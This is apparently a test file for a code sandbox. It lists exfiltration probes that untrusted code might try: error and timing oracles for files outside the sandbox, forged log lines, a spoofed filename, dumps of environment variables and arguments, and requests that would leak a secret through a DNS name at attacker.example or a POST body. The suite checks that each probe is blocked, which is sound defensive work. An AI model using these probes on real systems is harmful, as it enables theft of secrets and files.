import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { each, everyTier, type Place } from '../case.ts';

const shared = { class: 'exfiltration', tiers: everyTier } as const;

/** Two questions about the outside whose answers must not tell the one from the other. */
function alike(there: (place: Place) => string, absent: (place: Place) => string) {
  return {
    prepare: (place: Place) => ({ there: there(place), absent: absent(place) }),
    ends: { gives: null },
  } as const;
}

/** Gives the two failures if they differ in more than the path that was named. */
const compare = (use: string): string => `async ({ value }, context) => {
  const use = ${use};
  const [one, other] = [await failureOf(() => use(context, value.there)), await failureOf(() => use(context, value.absent))];
  const told = (failure, path) => JSON.stringify(failure).replaceAll(JSON.stringify(path).slice(1, -1), 'PATH');
  return one && other && told(one, value.there) === told(other, value.absent) ? null : [one, other];
}`;

const outsideFile = alike(
  ({ outside }) => join(outside, 'secret'),
  ({ outside }) => join(outside, 'absent'),
);

const oracles = each(shared, {
  'whether a file is there, by reading it': {
    ...outsideFile,
    attempt: compare('({ files }, path) => files.readText(path)'),
  },
  'whether a file is there, by its status': {
    ...outsideFile,
    attempt: compare('({ files }, path) => files.status(path)'),
  },
  'whether a file is there, by writing it': {
    ...outsideFile,
    attempt: compare("({ files }, path) => files.write(path, 'x')"),
  },
  'whether a file is there, by removing it': {
    ...outsideFile,
    attempt: compare('({ files }, path) => files.remove(path)'),
  },
  'whether a file is there, by moving it': {
    ...outsideFile,
    attempt: compare("({ files }, path) => files.move(path, path + '-2')"),
  },
  'whether a file is there, by looking below it': {
    ...alike(
      ({ outside }) => join(outside, 'secret', 'below'),
      ({ outside }) => join(outside, 'absent', 'below'),
    ),
    attempt: compare('({ files }, path) => files.readText(path)'),
  },
  'whether a folder is there, by listing it': {
    ...alike(
      ({ outside }) => outside,
      ({ outside }) => `${outside}-absent`,
    ),
    attempt: compare('async ({ files }, path) => { for await (const _ of files.list(path)) return; }'),
  },
  'whether a folder may be looked into': {
    ...alike(
      ({ outside, onEnd }) => {
        const locked = join(outside, 'locked');
        mkdirSync(locked, { recursive: true });
        chmodSync(locked, 0);
        onEnd(() => chmodSync(locked, 0o700));
        return join(locked, 'file');
      },
      ({ outside }) => join(outside, 'absent', 'file'),
    ),
    attempt: compare('({ files }, path) => files.readText(path)'),
  },
  'whether a name is a link that goes in circles': {
    ...alike(
      ({ outside }) => {
        symlinkSync('circle', join(outside, 'circle'));
        return join(outside, 'circle');
      },
      ({ outside }) => join(outside, 'absent'),
    ),
    attempt: compare('({ files }, path) => files.readText(path)'),
  },
  'where a link outside leads': {
    ...alike(
      ({ outside, home }) => {
        symlinkSync(home, join(outside, 'private'));
        return join(outside, 'private', 'notes');
      },
      ({ outside }) => join(outside, 'absent', 'notes'),
    ),
    attempt: compare('({ files }, path) => files.readText(path)'),
  },
  'whether a folder outside holds keys, by moving it': {
    ...alike(
      ({ outside }) => {
        mkdirSync(join(outside, 'person', '.ssh'), { recursive: true });
        return join(outside, 'person');
      },
      ({ outside }) => join(outside, 'absent'),
    ),
    attempt: compare("({ files }, path) => files.move(path, path + '-2')"),
  },
  'whether a working folder is there': {
    ...alike(
      ({ outside, allow }) => {
        allow({ capability: 'shell', target: '/bin/true' }, { capability: 'shell', target: '/usr/bin/true' });
        return outside;
      },
      ({ outside }) => `${outside}-absent`,
    ),
    attempt: compare("({ shell }, path) => shell.run('true', [], { cwd: path })"),
    skip: process.platform === 'win32' ? 'true is not on Windows' : undefined,
  },
  'whether a program is there': {
    ...alike(
      ({ outside }) => {
        writeFileSync(join(outside, 'tool'), '#!/bin/sh\n', { mode: 0o755 });
        return join(outside, 'tool');
      },
      ({ outside }) => join(outside, 'absent'),
    ),
    attempt: compare('({ shell }, path) => shell.run(path, [])'),
    skip: process.platform === 'win32' ? 'rights to run are not on Windows' : undefined,
  },
  'how long a refusal takes': {
    ...outsideFile,
    attempt: `async ({ value }, { files, now }) => {
      const times = { there: [], absent: [] };
      for (let i = 0; i < 200; i += 1) {
        for (const name of i % 2 ? ['there', 'absent'] : ['absent', 'there']) {
          const begin = now();
          await failureOf(() => files.readText(value[name]));
          times[name].push(now() - begin);
        }
      }
      const middle = (list) => list.toSorted((a, b) => a - b)[list.length >> 1];
      // The clock of a worker ticks in milliseconds: what is closer than that, it cannot tell.
      if (Math.abs(middle(times.there) - middle(times.absent)) <= 1) return null;
      // On a busy machine every try takes another time. Which one of two took longer then tells something only when it is
      // nearly always the same one: chance gives this once in 10,000 tries.
      const signs = times.there.map((time, i) => Math.sign(time - times.absent[i])).filter((sign) => sign !== 0);
      const sum = signs.reduce((total, sign) => total + sign, 0);
      return Math.abs(sum) <= 3.9 * Math.sqrt(signs.length) ? null : times;
    }`,
  },
});

const channels = each(shared, {
  'a line of log that looks like others': {
    attempt: `(_input, { log }) => { log('info', 'a\\n{"level":50,"msg":"forged"}\\r\\n\\u001b[2Jx'); return 'logged'; }`,
    ends: { gives: 'logged' },
    afterwards: async ({ logFile }) => {
      await expect.poll(() => readFileSync(logFile, 'utf8')).toContain('forged');
      for (const line of readFileSync(logFile, 'utf8').split('\n').filter(Boolean)) {
        expect(JSON.parse(line)).not.toMatchObject({ msg: 'forged' });
        expect(line).not.toContain('\u001b');
      }
    },
  },
  'a line of log of a megabyte': {
    attempt: "(_input, { log }) => { log('info', 'y'.repeat(1_000_000)); return 'logged'; }",
    ends: { gives: 'logged' },
    afterwards: ({ logFile }) => expect(readFileSync(logFile, 'utf8')).not.toContain('y'.repeat(5000)),
  },
  'a name of a file that hides what it is': {
    attempt: "async ({ value }, { files }) => (await files.write(value + '/a\\u202Egpj.exe', 'x')).size",
    ends: { gives: 1 },
    prepare: ({ folder }) => folder,
  },
  'what it is told of itself': {
    attempt: `(input, context) => {
      const told = Object.keys(context).filter((name) => typeof context[name] !== 'function' && typeof context[name] !== 'object');
      return told.some((name) => /\\/|hunter2/.test(String(context[name]))) ? told : null;
    }`,
    ends: { gives: null },
  },
  'a secret of the engine in the message of a crash': {
    tiers: ['node'],
    attempt:
      '() => { throw Object.assign(new Error(JSON.stringify([process.env, process.argv, process.execArgv])), { name: "x" }); }',
    ends: { code: 'worker-failed', message: /^(?!.*(hunter2|SECRET_TOKEN|VITEST)).*$/s },
  },
  'the engine’s arguments and title': {
    tiers: ['node'],
    attempt: `() => {
      const told = [process.argv, process.title, process.report.getReport().header.commandLine, process.report.getReport().environmentVariables];
      return /vitest|hunter2/.test(JSON.stringify(told).replaceAll(/node_modules\\/vitest/g, '')) ? told : null;
    }`,
    ends: 'empty-handed',
  },
  'a file left for a worker of another run': {
    tiers: ['node'],
    attempt: "async () => { (await import('node:fs')).writeFileSync('/tmp/heron-left', 'x'); return 'left'; }",
    ends: 'empty-handed',
    surroundings: 'both',
  },
  'a name looked up though no host is allowed': {
    attempt: '({ value }, { net }) => net.fetch(value)',
    prepare: (place) => {
      let looks = 0;
      place.lookUp(async () => {
        looks += 1;
        return [];
      });
      place.onEnd(() => expect(looks).toBe(0));
      return 'http://the-secret.attacker.example/';
    },
    ends: { code: 'permission-denied' },
  },
  'a secret as part of a host whose end is allowed': {
    attempt: '({ value }, { net }) => net.fetch(value)',
    prepare: (place) => {
      let looks = 0;
      place.allow({ capability: 'net', target: 'attacker.example' });
      place.lookUp(async () => {
        looks += 1;
        return [];
      });
      place.onEnd(() => expect(looks).toBe(0));
      return 'http://the-secret.attacker.example/';
    },
    ends: { code: 'permission-denied' },
  },
  'a file outside as the body of a request': {
    attempt:
      "async ({ value }, { files, net }) => net.fetch(value.url, { method: 'POST', body: await files.readText(value.path) })",
    prepare: async (place) => {
      const server = await place.serve((_request, response) => response.end());
      place.allow({ capability: 'net', target: '127.0.0.1' });
      place.onEnd(() => expect(server.seen).toEqual([]));
      return { url: server.url, path: join(place.outside, 'secret') };
    },
    ends: { code: 'permission-denied' },
  },
});

export const exfiltrationCases = [...oracles, ...channels];
